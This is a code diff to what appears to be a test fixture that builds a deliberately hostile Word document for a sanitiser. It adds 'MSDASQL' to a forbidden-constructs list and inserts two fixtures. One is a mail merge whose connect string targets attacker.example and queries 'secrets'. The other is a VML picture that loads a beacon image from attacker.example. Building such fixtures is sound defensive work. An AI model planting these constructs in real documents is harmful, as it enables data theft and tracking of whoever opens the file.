@@ -43,6 +43,7 @@ FORBIDDEN = (
     "vbaProject",
     "attachedTemplate",
     "subDoc",
+    "MSDASQL",
 )
 # Text each hostile construct showed, which the pack keeps.
 SHOWN = (
@@ -272,6 +273,27 @@ def add_attached_template(document: DocumentObject) -> None:
     document.settings.element.insert(0, template)
 
 
+def add_mail_merge(document: DocumentObject) -> None:
+    """A mail merge whose data source is a database query Word would run on opening."""
+    xml = (
+        f'<w:mailMerge {nsdecls("w")}><w:mainDocumentType w:val="formLetters"/>'
+        '<w:connectString w:val="Provider=MSDASQL;DSN=attacker.example"/>'
+        '<w:query w:val="SELECT * FROM secrets"/></w:mailMerge>'
+    )
+    document.settings.element.append(parse_xml(xml))
+
+
+def add_vml_source(paragraph: DocxParagraph) -> None:
+    """A VML picture whose source is an address, not a part."""
+    xml = (
+        f"<w:r {nsdecls('w')} {VML}><w:pict>"
+        '<v:shape id="_x0000_i1027" style="width:20pt;height:20pt">'
+        '<v:imagedata src="http://attacker.example/beacon.png" o:href="file:///C:/x.png"/>'
+        "</v:shape></w:pict></w:r>"
+    )
+    paragraph._p.append(parse_xml(xml))
+
+
 def add_macros(document: DocumentObject) -> None:
     """A vbaProject part (macros), as a .docm carries them."""
     add_part(
@@ -314,6 +336,8 @@ def hostile_note() -> bytes:
     add_alt_chunk(document)
     add_linked_pictures(document)
     add_attached_template(document)
+    add_mail_merge(document)
+    add_vml_source(objects)
     add_macros(document)
     document.add_paragraph("The end of the partner brief.")
     return saved(document)
